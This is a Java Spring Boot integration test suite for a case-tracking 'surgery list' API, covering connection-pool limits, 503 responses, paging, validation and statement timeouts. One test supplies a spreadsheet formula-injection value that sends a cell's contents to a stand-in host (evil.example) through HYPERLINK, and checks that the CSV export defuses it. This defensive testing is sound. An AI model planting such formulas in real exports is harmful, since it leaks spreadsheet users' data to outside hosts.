package uk.permanence.tracking.surgery;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;
import static uk.permanence.testing.Eventually.eventually;

import com.jayway.jsonpath.JsonPath;
import com.zaxxer.hikari.HikariDataSource;
import java.io.StringReader;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.kafka.core.KafkaTemplate;
import org.springframework.kafka.test.context.EmbeddedKafka;
import org.springframework.test.context.ContextConfiguration;
import org.springframework.test.web.servlet.MockMvc;
import uk.permanence.events.CaseAllocated;
import uk.permanence.events.CaseEventCodec;
import uk.permanence.events.CaseEventTopic;
import uk.permanence.events.ChildEnteredCare;
import uk.permanence.events.LegalStatus;
import uk.permanence.testing.HeldConnections;
import uk.permanence.testing.RealInfrastructure;

/**
 * The surgery list cannot take the service down (with a request pool of three connections, many calls leave none
 * behind, a full request pool answers 503 with Retry-After at once, and events are applied meanwhile), and its CSV
 * cannot carry a formula into a spreadsheet.
 */
@SpringBootTest(properties = {"tracking.sweep-interval=PT1H", "permanence.pools.requests.maximum-pool-size=3"})
@AutoConfigureMockMvc
@EmbeddedKafka(partitions = 2, topics = {CaseEventTopic.NAME, "permanence.alerts.v1"})
@ContextConfiguration(initializers = RealInfrastructure.class)
class SurgeryListTest {

    private static final Instant RECORDED = Instant.parse("2026-02-20T10:00:00Z");

    @Autowired
    MockMvc mvc;
    @Autowired
    KafkaTemplate<String, String> kafka;
    @Autowired
    @Qualifier("requestsPool")
    HikariDataSource requestsPool;
    @Autowired
    @Qualifier("eventsPool")
    HikariDataSource eventsPool;

    private final CaseEventCodec codec = new CaseEventCodec();

    private String enterCare(String team) throws Exception {
        return enterCare(team, "sw.pool");
    }

    private String enterCare(String team, String worker) throws Exception {
        String caseId = UUID.randomUUID().toString();
        kafka.send(CaseEventTopic.NAME, caseId, codec.write(UUID.randomUUID(), 0, new ChildEnteredCare(caseId, "825",
                "REF-" + caseId, LocalDate.of(2024, 5, 1), LocalDate.of(2025, 1, 10), LegalStatus.C2, RECORDED,
                "tester", null))).get();
        kafka.send(CaseEventTopic.NAME, caseId, codec.write(UUID.randomUUID(), 1, new CaseAllocated(caseId, "825",
                LocalDate.of(2025, 1, 11), worker, team, RECORDED, "t", null))).get();
        return caseId;
    }

    private boolean applied(String caseId) {
        return JdbcClient.create(eventsPool).sql("select count(*) from case_timeliness where case_id = ? and team is not null")
                .param(caseId).query(Long.class).single() == 1;
    }

    @Test
    void thirtySurgeryListsLeaveNoConnectionInUseAndEventsGoOn() throws Exception {
        String team = "pool-" + UUID.randomUUID();
        String caseId = enterCare(team);
        eventually(() -> assertThat(applied(caseId)).isTrue());

        for (int call = 0; call < 30; call++) {
            mvc.perform(get("/api/surgery").param("team", team).accept(call % 2 == 0 ? "application/json" : "text/csv"))
                    .andExpect(status().isOk());
        }

        mvc.perform(get("/actuator/health")).andExpect(status().isOk()).andExpect(jsonPath("$.status").value("UP"));
        assertThat(requestsPool.getHikariPoolMXBean().getActiveConnections()).isZero();
        String later = enterCare(team);
        eventually(() -> assertThat(applied(later)).isTrue());
        mvc.perform(get("/api/surgery").param("team", team))
                .andExpect(status().isOk()).andExpect(jsonPath("$.items.length()").value(2));
    }

    @Test
    void aFullRequestPoolAnswers503WithRetryAfterWhileEventsAreStillApplied() throws Exception {
        try (HeldConnections held = HeldConnections.take(requestsPool, requestsPool.getMaximumPoolSize())) {
            long started = System.nanoTime();
            mvc.perform(get("/api/surgery").param("team", "north"))
                    .andExpect(status().isServiceUnavailable())
                    .andExpect(header().string("Retry-After", "2"))
                    .andExpect(content().contentTypeCompatibleWith("application/problem+json"))
                    .andExpect(jsonPath("$.status").value(503));
            assertThat((System.nanoTime() - started) / 1_000_000).isLessThan(5_000);

            String caseId = enterCare("north");
            eventually(() -> assertThat(applied(caseId)).isTrue());
        }
        mvc.perform(get("/api/surgery").param("team", "north")).andExpect(status().isOk());
    }

    @Test
    void freeTextThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
        String team = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" + UUID.randomUUID();
        String caseId = enterCare(team, "@SUM(1+1)");
        eventually(() -> assertThat(applied(caseId)).isTrue());

        String csv = mvc.perform(get("/api/surgery").param("team", team).accept("text/csv"))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();

        List<String> cells = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords().get(1).toList();
        assertThat(cells.get(0)).isEqualTo(caseId);
        assertThat(cells.get(2)).isEqualTo("'" + team);
        assertThat(cells.get(3)).isEqualTo("'@SUM(1+1)");
    }

    @Test
    void aPageOfTheListIsTheWholeListsRowsInItsOrderWithTheListsTotalsAndEachChildsCaseReference()
            throws Exception {
        String team = "paged-" + UUID.randomUUID();
        List<String> caseIds = List.of(enterCare(team), enterCare(team), enterCare(team));
        caseIds.forEach(caseId -> eventually(() -> assertThat(applied(caseId)).isTrue()));
        List<String> whole = JsonPath.read(mvc.perform(get("/api/surgery").param("team", team))
                .andExpect(status().isOk()).andExpect(jsonPath("$.total").value(3))
                .andExpect(jsonPath("$.page").doesNotExist())
                .andReturn().getResponse().getContentAsString(), "$.items[*].caseId");
        assertThat(whole).containsExactlyInAnyOrderElementsOf(caseIds);

        mvc.perform(get("/api/surgery").param("team", team).param("page", "0").param("size", "2"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.items[*].caseId").value(org.hamcrest.Matchers.contains(whole.get(0),
                        whole.get(1))))
                .andExpect(jsonPath("$.items[0].caseReference").value("REF-" + whole.get(0)))
                .andExpect(jsonPath("$.page").value(0)).andExpect(jsonPath("$.size").value(2))
                .andExpect(jsonPath("$.total").value(3)).andExpect(jsonPath("$.withOverdue").value(3));
        mvc.perform(get("/api/surgery").param("team", team).param("page", "1").param("size", "2"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.items[*].caseId").value(org.hamcrest.Matchers.contains(whole.get(2))))
                .andExpect(jsonPath("$.total").value(3));
        mvc.perform(get("/api/surgery").param("team", team).param("page", "5"))
                .andExpect(status().isOk()).andExpect(jsonPath("$.items.length()").value(0))
                .andExpect(jsonPath("$.size").value(25)).andExpect(jsonPath("$.total").value(3));
    }

    @Test
    void aPageOrSizeOutOfBoundsIsNamedInA400Problem() throws Exception {
        mvc.perform(get("/api/surgery").param("page", "-1").param("size", "201"))
                .andExpect(status().isBadRequest())
                .andExpect(content().contentTypeCompatibleWith("application/problem+json"))
                .andExpect(jsonPath("$.errors[*].field").value(org.hamcrest.Matchers.contains("page", "size")));
    }

    @Test
    void requestStatementsAreTimeLimitedAndEventStatementsAreNot() {
        assertThat(JdbcClient.create(requestsPool).sql("show statement_timeout").query(String.class).single())
                .isEqualTo("10s");
        assertThat(JdbcClient.create(eventsPool).sql("show statement_timeout").query(String.class).single())
                .isEqualTo("0");
    }
}
